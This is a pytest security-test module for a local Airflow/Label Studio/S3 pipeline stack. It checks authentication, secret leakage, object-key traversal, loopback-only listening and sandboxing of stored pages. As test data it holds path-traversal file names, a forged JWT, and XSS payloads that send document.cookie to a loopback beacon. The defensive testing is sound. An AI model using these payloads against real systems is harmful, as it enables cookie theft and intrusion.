"""Issue 11 security tests against the running local stack (after the demo ran through it).

* the plugin API refuses unauthenticated requests;
* no generated credential appears in any log, any git-tracked file, or any object of the registry;
* object keys built from user-supplied names cannot leave their prefix;
* Label Studio webhooks are not used (completion is polled by the deferrable trigger; docs/security.md);
* every process of the stack, children included, listens on 127.0.0.1 only.
"""

from __future__ import annotations

import json
import mimetypes
import subprocess
import time
from pathlib import Path

import httpx
import jwt
import psutil
import pytest

from hopchain_demo.samples import write_samples
from pipelines.runner import RunEnv
from pipelines.store import KeyError_, safe_key
from tests.support import nightly
from tests.support.faults import ls_client, stack_store
from tests.support.stack import REPO_ROOT

pytestmark = pytest.mark.integration


def _secrets(stack) -> dict[str, str]:
    """Every generated secret of a stack, by name (identifiers such as user names are not secrets)."""
    s3, ls, af = stack.s3.credentials(), stack.labelstudio.credentials(), stack.airflow.credentials()
    out = {"s3 secret key": s3["secret_key"], "label studio token": ls["token"],
           "label studio password": ls["password"]}
    out.update({f"airflow {k}": af[k] for k in ("password", "jwt_secret", "api_secret_key", "fernet_key")})
    assert all(len(v) >= 16 for v in out.values())
    return out


def _found(secrets: dict[str, str], data: bytes) -> list[str]:
    return [name for name, value in secrets.items() if value.encode() in data]


# -- authentication --------------------------------------------------------------------------------
def test_plugin_api_and_pages_refuse_unauthenticated_requests(local_stack, demo_release) -> None:
    base = demo_release["plugin_page"].rstrip("/")
    paths = ["/api/status", "/", "/docs/releases/x/card/index.html"]
    # a token signed with another key, as someone without the stack's JWT secret would make it
    now = int(time.time())
    forged = jwt.encode({"sub": "admin", "role": "admin", "iat": now, "exp": now + 600},
                        "not-the-stack-secret-" * 4, algorithm="HS512")
    for path in paths:
        assert httpx.get(base + path, timeout=30).status_code == 401, path
        for bad in ("not-a-token", forged):
            # Airflow answers a token it cannot verify with 403 ("Invalid JWT token"), as its own API does
            r = httpx.get(base + path, headers={"Authorization": f"Bearer {bad}"}, timeout=30)
            assert r.status_code in (401, 403) and "detail" in r.json(), (path, r.status_code)
            r = httpx.get(base + path, cookies={"_token": bad}, timeout=30)
            assert r.status_code in (401, 403) and "detail" in r.json(), (path, r.status_code)
    token = local_stack.airflow.token()
    ok = httpx.get(base + "/api/status", headers={"Authorization": f"Bearer {token}"}, timeout=60)
    assert ok.status_code == 200 and demo_release["tag"] in ok.text


# -- secrets -------------------------------------------------------------------------------------
def test_no_credential_in_any_log_of_the_stack(local_stack, demo_release) -> None:
    secrets = _secrets(local_stack)
    roots = [local_stack.home / "airflow" / "logs", local_stack.home / "logs"]
    files = [f for root in roots for f in root.rglob("*") if f.is_file()]
    task_logs = [f for f in files if "dag_id=hopchain_nightly" in str(f)]
    assert task_logs, "no task log found: did the demo run?"
    leaks = {str(f): found for f in files if (found := _found(secrets, f.read_bytes()))}
    assert not leaks, leaks


def _tracked_files() -> list[Path]:
    out = subprocess.run(["git", "ls-files", "-z"], cwd=REPO_ROOT, capture_output=True, check=True).stdout
    return [REPO_ROOT / name for name in out.decode().split("\0") if name]


def test_no_credential_in_any_git_tracked_file(local_stack, demo_release) -> None:
    secrets = _secrets(local_stack)
    default_home = REPO_ROOT / ".stack" / "credentials"  # a developer's own running stack, if any
    for f in sorted(default_home.glob("*.json")) if default_home.is_dir() else []:
        import json

        data = json.loads(f.read_text())
        for k in ("secret_key", "token", "password", "jwt_secret", "api_secret_key", "fernet_key"):
            if isinstance(data.get(k), str) and len(data[k]) >= 16:
                secrets[f"{f.name} {k}"] = data[k]
    files = [f for f in _tracked_files() if f.is_file()]
    assert len(files) > 50
    leaks = {str(f.relative_to(REPO_ROOT)): found for f in files
             if (found := _found(secrets, f.read_bytes()))}
    assert not leaks, leaks
    assert not any(f.is_relative_to(REPO_ROOT / ".stack") for f in files)


def test_no_credential_in_the_dataset_registry(local_stack, demo_release) -> None:
    secrets = _secrets(local_stack)
    registry = Path(demo_release["registry"])
    assert (registry / "HEAD").exists()
    dump = subprocess.run(["git", "cat-file", "--batch-all-objects", "--batch"], cwd=registry,
                          capture_output=True, check=True).stdout
    assert demo_release["tag"].encode() in dump and b"endpointurl" in dump  # really the release's objects
    refs = b"".join(p.read_bytes() for p in registry.rglob("*") if p.is_file() and "objects" not in p.parts)
    assert not _found(secrets, dump + refs)
    access_key = local_stack.s3.credentials()["access_key"].encode()
    assert access_key not in dump  # not even the key id: DVC's credentials stay in config.local


# -- object keys -----------------------------------------------------------------------------------
@pytest.mark.parametrize("name", [
    "../../evil.jpg", "/etc/passwd", "..\\..\\evil.jpg", "a/../../../evil.jpg", "./../evil.jpg",
    "\\\\server\\share\\evil.jpg", "C:\\Windows\\evil.jpg", "..%2f..%2fevil.jpg", "\u2025/\u2025/evil.jpg",
    "\uff0e\uff0e/\uff0e\uff0e/evil.jpg", "ev\u2215il\u202e.jpg", "nul\x00byte.jpg", "\n../evil.jpg",
])
def test_object_keys_from_user_names_cannot_leave_their_prefix(name: str) -> None:
    key = safe_key("inputs/upload", name)
    assert key.startswith("inputs/upload/")
    segments = key.split("/")
    assert segments[:2] == ["inputs", "upload"]
    assert not {"", ".", ".."} & set(segments)
    assert key.isascii() and "\\" not in key and "\x00" not in key


@pytest.mark.parametrize("name", ["..", "../..", "/", "\\..\\", " / ./ "])
def test_a_name_that_is_only_traversal_is_refused(name: str) -> None:
    with pytest.raises(KeyError_):
        safe_key("inputs", name)


def test_ingest_of_hostile_file_names_stays_inside_the_input_prefix(
        local_stack, demo_release, tmp_path) -> None:
    """A local folder with files named like paths is uploaded the way ``seed_samples`` does it,
    then ingested; a run's ``input_prefix`` of ``../..`` cannot reach outside ``inputs/``."""
    store = stack_store(local_stack)
    folder = tmp_path / "upload"
    write_samples(tmp_path / "src", 2)
    folder.mkdir()
    images = sorted((tmp_path / "src" / "images").iterdir())
    hostile = ["..\\..\\evil.jpg", "..evil.jpg", "ev\u2215il.png"]  # legal file names on Linux
    for src, name in zip(images + images[:1], hostile, strict=True):
        (folder / name).write_bytes(src.read_bytes())
    before = set(store.list(""))
    prefix = safe_key("inputs", f"sec-{tmp_path.name}")
    for f in sorted(folder.iterdir()):
        store.put_bytes(safe_key(prefix, str(f.relative_to(folder))), f.read_bytes(),
                        mimetypes.guess_type(f.name)[0] or "application/octet-stream")
    added = set(store.list("")) - before
    assert len(added) == len(hostile) and all(k.startswith(prefix + "/") for k in added), added

    env = RunEnv(local_stack.params, store, f"security_{tmp_path.name}")
    assert nightly.ingest(env, prefix.removeprefix("inputs/")) == [0]
    manifest = env.read_table("manifest", 0).to_pylist() + env.read_table("quarantine", 0).to_pylist()
    assert len(manifest) == len(hostile)
    assert all(r["uri"].startswith(f"s3://{store.bucket}/{prefix}/") for r in manifest)
    for escaping in ("../../runs", "/runs", "..\\..\\releases", "../" * 5 + "batches"):
        uri = env.input_uri(escaping)
        assert uri.startswith(f"s3://{store.bucket}/inputs/"), uri
    store.delete_prefix(prefix + "/")
    store.delete_prefix(safe_key("runs", env.run_id) + "/")


# -- Label Studio webhooks ---------------------------------------------------------------------------
def test_label_studio_webhooks_are_not_used(local_stack, demo_release) -> None:
    """Completion is polled (AnnotationCompleteTrigger), so no webhook exists that could be forged."""
    with ls_client(local_stack.labelstudio) as client:
        projects = list(client.sdk.projects.list())
        assert projects, "the demo created no project"
        assert client.sdk.webhooks.list() == []
        for p in projects:
            assert client.sdk.webhooks.list(project=str(p.id)) == []


# -- network ------------------------------------------------------------------------------------------
def test_every_process_of_the_stack_listens_on_loopback_only(local_stack, demo_release) -> None:
    pids = [pid for svc in local_stack.services for pid in svc.pids()]
    assert len(pids) == 6  # weed, label studio, 4 airflow components
    procs = {}
    for pid in pids:
        root = psutil.Process(pid)
        for p in [root, *root.children(recursive=True)]:
            procs[p.pid] = p
    listening = []
    for p in procs.values():
        try:
            conns = p.net_connections(kind="inet")
        except (psutil.NoSuchProcess, psutil.AccessDenied):
            continue
        listening += [(p.pid, c.laddr.ip, c.laddr.port) for c in conns if c.status == psutil.CONN_LISTEN]
    assert listening
    assert {ip for _, ip, _ in listening} == {"127.0.0.1"}, listening
    ports = local_stack.params.stack.ports
    assert {ports.s3, ports.s3_filer, ports.label_studio, ports.airflow} <= {port for *_, port in listening}
    # and nothing answers on the machine's other addresses
    others = {a.address for addrs in psutil.net_if_addrs().values() for a in addrs
              if a.family.name == "AF_INET" and not a.address.startswith("127.")}
    for ip in others:
        for port in (ports.s3, ports.label_studio, ports.airflow):
            with pytest.raises(httpx.ConnectError):
                httpx.get(f"http://{ip}:{port}/", timeout=3)


# -- pages the plugin serves (issue 30, item 1) -----------------------------------------------------
#: the failing value GX renders unescaped: script, a handler, a remote image and a meta refresh, each of
#: which would set the title or call the beacon (with the session cookie) if the browser ran or loaded it
CRAFTED_VALUE = ("<img src='x' onerror=\"document.title='pwned';new Image().src='{beacon}/onerror?'+document.cookie\">"
                 "<img src='{beacon}/remote-image'><script>document.title='pwned';"
                 "fetch('{beacon}/script?'+document.cookie)</script>"
                 "<meta http-equiv='refresh' content='0;url={beacon}/refresh'>")
CRAFTED_SVG = ("<svg xmlns='http://www.w3.org/2000/svg' onload=\"document.title='pwned'\">"
               "<script>fetch('{beacon}/svg?'+document.cookie)</script><rect width='9' height='9'/></svg>")


class Beacon:
    """A loopback HTTP listener that records every request: where a page's script would send the cookie."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        hits: list[str] = []
        self.hits = hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def crafted_docs(local_stack, tmp_path_factory):  # type: ignore[no-untyped-def]
    """A Data Docs site built by the real GX renderer from questions with :data:`CRAFTED_VALUE` as an
    answer, published to the stack's store under a run of its own, plus a crafted SVG and a page that
    shows one of the site's own PNGs; removed afterwards."""
    import pyarrow as pa

    from expectations.runner import validate
    from expectations.samples import sample_tables
    from pipelines.store.layout import RunKeys

    beacon = Beacon()
    params, store = local_stack.params, stack_store(local_stack)
    run_id = f"sec-docs-{tmp_path_factory.mktemp('x').name}"
    questions = sample_tables(n_images=4, questions_per_image=2, seed=3)["questions"]
    frame = questions.to_pandas()
    frame.loc[0, "answer"] = CRAFTED_VALUE.format(beacon=beacon.url)
    report = validate("questions", pa.Table.from_pandas(frame, schema=questions.schema, preserve_index=False),
                      params=params, run_id=run_id, store=store, raise_on_critical=False)
    run = RunKeys(params.store.runs_prefix, run_id)
    svg = store.put_bytes(run.datadocs_site_file("questions", None, "static/images/crafted.svg"),
                          CRAFTED_SVG.format(beacon=beacon.url).encode(), "image/svg+xml")
    card = store.put_bytes(run.datadocs_site_file("questions", None, "card.html"),
                           b"<!doctype html><title>card</title><img id='plot' src='static/images/short-logo.png'>",
                           "text/html")
    try:
        assert report.docs_page_key and CRAFTED_VALUE.format(beacon=beacon.url).encode() in store.get_bytes(
            report.docs_page_key), "GX no longer renders the failing value unescaped: rework this test"
        yield {"page": report.docs_page_key, "svg": svg, "card": card, "beacon": beacon}
    finally:
        beacon.close()
        store.delete_prefix(safe_key(params.store.runs_prefix, run_id) + "/")


def test_stored_pages_come_sandboxed_and_svg_only_as_a_download(local_stack, crafted_docs) -> None:
    base = local_stack.airflow.url() + "/hopchain/docs/"
    auth = {"Authorization": f"Bearer {local_stack.airflow.token()}"}
    page = httpx.get(base + crafted_docs["page"], headers=auth, timeout=60)
    assert page.status_code == 200 and b"<script>document.title='pwned'" in page.content  # stored as it is ...
    policy = {d.strip().split(" ")[0]: d.strip() for d in page.headers["content-security-policy"].split(";")}
    assert "allow-scripts" not in policy["sandbox"] and policy["default-src"] == "default-src 'none'"  # ... inert
    assert page.headers["x-content-type-options"] == "nosniff"
    svg = httpx.get(base + crafted_docs["svg"], headers=auth, timeout=60)
    assert svg.status_code == 200 and svg.headers["content-type"] == "application/octet-stream"
    assert svg.headers["content-disposition"].startswith("attachment;")
    assert svg.headers["x-content-type-options"] == "nosniff" and "sandbox" in svg.headers["content-security-policy"]
    own = httpx.get(local_stack.airflow.url() + "/hopchain/", headers=auth, timeout=60)
    assert own.headers["x-content-type-options"] == "nosniff"
    assert "default-src 'none'" in own.headers["content-security-policy"]


def test_every_plugin_route_and_the_api_docs_refuse_a_request_without_login(local_stack) -> None:
    """Against the real api-server: every route of the app (enumerated, so a new one is covered), and
    what FastAPI would serve by default (``/docs``, ``/redoc``, ``/openapi.json``)."""
    import re

    from hopchain_airflow.ui.app import create_app

    base = local_stack.airflow.url() + "/hopchain"
    paths = [re.sub(r"\{[^}]+\}", "x", r.path) for r in create_app().routes]  # type: ignore[attr-defined]
    paths += ["/docs", "/docs/", "/docs/oauth2-redirect", "/redoc", "/openapi.json", "/nothing-here"]
    for path in paths:
        r = httpx.get(base + path, timeout=30)
        assert r.status_code == 401, (path, r.status_code, r.text[:200])
        assert r.headers.get("x-content-type-options") == "nosniff", path
    schema = httpx.get(base + "/openapi.json", timeout=60,
                       headers={"Authorization": f"Bearer {local_stack.airflow.token()}"})
    assert schema.status_code == 200 and "/api/status" in schema.json()["paths"]


@pytest.mark.skipif(not Path("/usr/bin/chromium").exists(), reason="Debian package chromium is not installed")
def test_a_crafted_data_docs_page_runs_no_script_in_an_admins_browser(local_stack, crafted_docs) -> None:
    """The strongest proof: an admin, signed in, opens the crafted page: nothing of it runs or calls
    out, the failing values are still there to read, and the site's own images still load."""
    from tests.support.cdp_browser import Browser, sign_in

    creds = local_stack.airflow.credentials()
    docs = f"{creds['url']}/hopchain/docs/"
    beacon = crafted_docs["beacon"]
    with Browser() as browser:
        page = browser.new_page()
        sign_in(page, creds["url"], creds["username"], creds["password"])
        page.goto(docs + crafted_docs["page"])
        time.sleep(2)  # give a script, an image error handler and the meta refresh their chance
        assert page.evaluate("document.title") != "pwned"
        assert page.url() == docs + crafted_docs["page"]  # the meta refresh did not take the admin away
        text = page.text()
        assert "questions.answer_canonical" in text and "but the program yields" in text  # still readable
        folder = crafted_docs["page"].split("validations/")[0]  # the site: GX's index lists it only by script
        page.goto(docs + folder)
        assert page.evaluate(f"[...document.links].some(a => a.href === {json.dumps(docs + crafted_docs['page'])})")
        page.goto(docs + crafted_docs["card"])
        assert page.wait_for("document.getElementById('plot').complete"
                             " && document.getElementById('plot').naturalWidth", 20, what="the site's image")
        page.send("Page.navigate", {"url": docs + crafted_docs["svg"]})  # a download, never a document here
        time.sleep(2)
        assert page.evaluate("document.title") != "pwned"
    assert beacon.hits == [], beacon.hits
